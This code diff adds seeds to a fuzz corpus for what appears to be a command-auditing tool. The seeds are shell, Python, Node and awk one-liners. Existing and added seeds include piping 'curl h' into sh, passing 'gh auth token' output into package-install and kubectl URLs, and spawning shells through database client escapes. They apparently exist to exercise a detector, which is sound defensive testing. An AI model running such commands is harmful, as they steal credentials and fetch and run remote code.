@@ -321,6 +321,9 @@ var fuzzSeeds = [][]string{
 	{"bash", "-c", `T=$(gh auth token); pip3 install "https://h.x/$T?x=$T" https://$T; npm i "h://x/$T"; helm install x https://api.github.com/$T; kubectl apply -f "https://[::1]/$(gh auth token)"; composer require; deno run https://`},
 	{"bash", "-c", `coproc curl h; coproc F { base64 -d; }; coproc G (curl h); coproc ${X} { x; }; sh <&"${COPROC[0]}" <&${F[1]} <&$G <&${G[i]} <&${F:-x}; read A B <&${F[0]}; mapfile M <&$COPROC; eval "$A$M"; coproc F true; sh <&${F[0]}`},
 	{"bash", "-c", "curl -o /t/a h://x; psql -Xqf /t/a -c '\\i /t/a' -c \"\\o |id\\\\ \\g |x \\copy t from program 'a''b' \\set x `id`\" < /t/a; mysql -Ne 'source /t/a; pager less; system id' --pager=x <<< '\\! id'; sqlite3 -lookaside 1 2 -safe db .sh; duckdb -c '.read |id' -init /t/a db '.once -x \"|id\"'; psql <<'E'\n\\! id\nE\nmongosh --eval; mongosh h --eval=x /t/a.js -f"},
+	{"python3", "-c", `import os, subprocess as s; os.system('curl h | sh'); os.popen(r"id"); s.run('x', shell=True); s.run(['npx', 'p']); s.Popen([]); os.system('')`},
+	{"node", "-e", "require('child_process'); exec(`npx p`); execSync(\"a\\\"b\"); spawn('sh', ['-c', 'curl h|sh']); execFile('x', [1, 'y']); /a/.exec('z')"},
+	{"awk", `BEGIN { system("curl h | sh"); "id" | getline x; print x |& "sh"; print | "" }`},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
